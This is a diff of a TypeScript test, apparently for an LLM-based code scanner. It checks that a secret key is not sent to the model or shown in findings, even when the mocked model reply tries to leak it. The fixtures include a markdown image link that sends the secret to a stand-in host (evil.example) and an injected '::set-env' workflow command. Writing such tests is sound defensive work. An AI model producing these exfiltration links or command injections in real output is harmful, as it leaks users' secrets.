@@ -36,7 +36,13 @@ test.each(forms)('no secret leaves, nothing is run, and what rules find stays: $
   const root = await folder({});
   const lines = ['x = 1', ...text.split('\n').map((line) => `# ${line}`), `key = "${secret}"`];
   await writeFile(join(root, 'a.py'), `${lines.join('\n')}\n`);
-  const said = [text, ...leaks, `The key is ${secret}`, '::set-env name=A::b', `![x](https://evil.example/?q=${secret})`];
+  const said = [
+    text,
+    ...leaks,
+    `The key is ${secret}`,
+    '::set-env name=A::b',
+    `![x](https://evil.example/?q=${secret})`,
+  ];
   mock.onMessage(/.*/s, { content: JSON.stringify({ findings: said.map(finding) }) });
   const file = { path: 'a.py', language: 'python', bytes: 1 } as never;
   const asked = { environment, answers: answerCache(undefined), signal: new AbortController().signal };
@@ -45,7 +51,10 @@ test.each(forms)('no secret leaves, nothing is run, and what rules find stays: $
   for (const part of [secret, 'fk-83b1e0c2d4', '"tools"']) expect(sent).not.toContain(part);
   expect(JSON.stringify(findings)).not.toContain(secret);
   const report = { findings, counts: { error: 0, warning: 0, note: 0 }, files: 1, missing: [] } as never;
-  for (const line of githubAnnotations(report).trimEnd().split(/[\r\n]/)) expect(line).toMatch(/^::(?:error|notice) /);
+  for (const line of githubAnnotations(report)
+    .trimEnd()
+    .split(/[\r\n]/))
+    expect(line).toMatch(/^::(?:error|notice) /);
   // No text of a file takes a finding of a rule away.
   expect(textRules('a.py', 'python', lines).map(({ rule }) => rule)).toContain('model-key');
 
